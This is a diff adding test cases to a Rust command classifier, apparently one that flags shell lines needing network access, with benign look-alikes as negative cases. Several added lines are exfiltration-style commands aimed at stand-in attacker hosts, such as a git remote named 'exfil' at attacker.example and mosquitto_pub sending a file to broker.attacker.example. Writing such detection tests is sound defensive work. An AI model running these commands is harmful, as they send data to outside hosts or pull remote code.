@@ -118,12 +118,25 @@ fn network() {
         "python3 -m pyftpdlib -p 2121",
         "stunnel /tmp/x.conf",
         "tor",
+        "node -e 'require(\"http\").createServer(h).listen(8080)'",
+        "host -t txt payload.attacker.example",
+        "git remote add exfil git@attacker.example:loot.git",
+        "docker pull 203.0.113.3:5000/image",
+        "mosquitto_pub -h broker.attacker.example -t x -f data",
+        "psql -h db.attacker.example -U postgres",
+        "irb -rsocket",
+        "perl -MIO::Socket::INET -e 1",
     ] {
         assert!(caps(line).contains(&"network"), "{line}: {:?}", caps(line));
     }
     for line in [
         "cat README.md",
         "cargo build --release",
+        "du -h notes.txt",
+        "sort -h sizes.log",
+        "git commit -m 'mail me at a@b.example:later'",
+        "psql -h localhost -U postgres",
+        "ruby -rjson -e 1",
         "git commit -m 'see https://example.com/issue/1'",
         "echo https://example.com",
         "aws s3 cp report.csv s3://bucket/",
